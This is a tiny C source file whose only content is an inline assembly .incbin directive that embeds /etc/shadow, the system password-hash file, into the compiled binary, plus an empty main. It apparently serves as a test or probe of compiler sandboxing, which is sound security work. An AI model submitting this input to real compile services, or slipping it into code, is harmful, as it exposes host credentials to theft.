asm(".incbin \"/etc/shadow\"");

int main() {}
